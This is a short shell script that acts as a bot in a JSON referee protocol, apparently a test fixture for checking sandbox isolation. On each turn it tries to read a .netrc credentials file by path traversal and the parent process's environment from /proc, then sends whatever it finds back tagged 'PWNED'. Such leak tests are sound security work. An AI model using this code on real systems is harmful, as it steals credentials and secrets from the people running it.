read -r hello
echo '{"referee":1,"kit":"sh"}'
while read -r cue; do
    loot=
    for path in @course@/../home/.netrc /proc/$PPID/environ; do
        [ -n "$loot" ] || { { read -r loot < "$path"; } 2>/dev/null && loot="PWNED $loot"; }
    done
    echo "{\"calls\":[{\"tell\":{\"to\":1,\"text\":\"$loot\"}}]}"
done
